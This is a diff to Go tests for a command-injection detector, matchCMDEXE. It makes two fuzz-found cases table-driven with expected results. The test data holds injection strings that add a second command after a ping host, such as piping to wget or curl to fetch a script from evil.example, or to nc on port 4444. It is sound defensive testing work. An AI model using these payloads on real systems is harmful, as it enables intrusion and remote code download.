@@ -258,34 +258,47 @@ func FuzzCmdExe(f *testing.F) {
 }
 
 // TestCmdExeAttachedBreakout: a single '|' or '&' glued to the word before it is graded
-// "attached" ("name|id", "Q&A" stay benign), and there a strong or network command with
-// a host or URL argument is not found, though cmdexe.go says a strong command (wget,
-// netcat...) is enough after a separator: "127.0.0.1|wget" alone, "127.0.0.1|wget -q
-// http://..." and "127.0.0.1;wget http://..." all match, while the classic ping-form
-// payloads below pass. Found by FuzzCmdExe; not fixed here (test-only change).
+// "attached" ("name|id", "Q&A" stay benign); there a strong or network command with a
+// host or URL argument still matches when it is strong or follows the host a ping form
+// asks for (found by FuzzCmdExe).
 func TestCmdExeAttachedBreakout(t *testing.T) {
-	for _, v := range []string{
-		"127.0.0.1|wget http://evil.example/x.sh",
-		"127.0.0.1&wget http://evil.example/x.sh",
-		"127.0.0.1|wget http://evil.example/x.sh -O /tmp/x.sh",
-		"127.0.0.1|nc 10.0.0.1 4444",
-		"127.0.0.1|curl http://evil.example/x.sh",
+	for _, tc := range []struct {
+		v    string
+		want bool
+	}{
+		{"127.0.0.1|wget http://evil.example/x.sh", true},
+		{"127.0.0.1&wget http://evil.example/x.sh", true},
+		{"127.0.0.1|wget http://evil.example/x.sh -O /tmp/x.sh", true},
+		{"127.0.0.1|nc 10.0.0.1 4444", true},
+		{"127.0.0.1|curl http://evil.example/x.sh", true},
+		{"example.org&curl http://evil.example/x.sh", true},
+		{"name|id|email", false},
+		{"Q&A with curl http://example.com/docs", false},
+		{"docs|curl http://example.com/docs", false},
 	} {
-		if _, ok := matchCMDEXE(nil, v); !ok {
-			t.Errorf("matchCMDEXE(%q) = false, want true", v)
+		if _, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
+			t.Errorf("matchCMDEXE(%q) = %v, want %v", tc.v, ok, tc.want)
 		}
 	}
 }
 
-// TestCmdExeLineBreakEndsCommand: a line break ends a command as ';' does, but after a
-// command judged as the start of a value (the value's first word, or any command of a
-// value that is a command line from its first word) the detector reads it as a space:
-// "whoami;id" and "ifconfig;x" match, "whoami\nid" and "ifconfig\nx" do not. Found by
-// FuzzCmdExe; not fixed here (test-only change).
+// TestCmdExeLineBreakEndsCommand: a line break ends a command as ';' does, also after a
+// command judged as the start of a value ("whoami\nid" as "whoami;id"; found by
+// FuzzCmdExe). Lines of prose that open with command words stay prose.
 func TestCmdExeLineBreakEndsCommand(t *testing.T) {
-	for _, v := range []string{"whoami\nid", "ifconfig\nx", "ls\nwhoami\nx", "w | whoami\r\nw"} {
-		if _, ok := matchCMDEXE(nil, v); !ok {
-			t.Errorf("matchCMDEXE(%q) = false, want true", v)
+	for _, tc := range []struct {
+		v    string
+		want bool
+	}{
+		{"whoami\nid", true},
+		{"ifconfig\nx", true},
+		{"ls\nwhoami\nx", true},
+		{"w | whoami\r\nw", true},
+		{"who\nwhat\nwhere", false},
+		{"Find the time\nSort the list\nMore later", false},
+	} {
+		if _, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
+			t.Errorf("matchCMDEXE(%q) = %v, want %v", tc.v, ok, tc.want)
 		}
 	}
 }
